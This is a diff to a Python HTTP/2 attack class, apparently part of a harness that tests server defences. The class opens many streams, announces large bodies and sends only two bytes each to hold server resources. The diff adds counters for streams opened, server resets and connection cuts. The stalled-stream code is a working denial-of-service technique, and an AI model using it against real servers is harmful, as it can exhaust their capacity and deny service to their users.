@@ -64,6 +64,8 @@ class StalledConnection:
         self.sock.settimeout(None)
         self.goaway = False
         self.resets = 0  # RST_STREAM frames: streams the server refused or cut
+        self.sent = 0  # streams opened
+        self.cut = False  # the server closed the connection while the attacker was sending
         self._lock = threading.Lock()
         self._send(PREFACE + _frame(SETTINGS, 0, 0, b""))
         self._reader = threading.Thread(target=self._read, daemon=True)
@@ -76,11 +78,25 @@ class StalledConnection:
         body = b"\x00" + struct.pack(">I", 1000) + b"\x0a\x05"  # 1000 bytes announced, 2 sent
         for i in range(streams):
             stream = 2 * i + 1
-            self._send(_frame(HEADERS, END_HEADERS, stream, block) + _frame(DATA, 0, stream, body))
+            frames = _frame(HEADERS, END_HEADERS, stream, block) + _frame(DATA, 0, stream, body)
+            if not self._send(frames):
+                break
+            self.sent += 1
 
-    def _send(self, data: bytes) -> None:
-        with self._lock:
-            self.sock.sendall(data)
+    @property
+    def held(self) -> int:
+        """Streams the server may still be holding open for this connection."""
+        return 0 if self.cut or not self.alive() else self.sent - self.resets
+
+    def _send(self, data: bytes) -> bool:
+        """False once the server has closed the connection (a defence, not an error here)."""
+        try:
+            with self._lock:
+                self.sock.sendall(data)
+        except OSError:  # ssl.SSLError too
+            self.cut = True
+            return False
+        return True
 
     def _read(self) -> None:
         """Answer SETTINGS and PINGs; note GOAWAY and RST_STREAM; until the socket closes."""
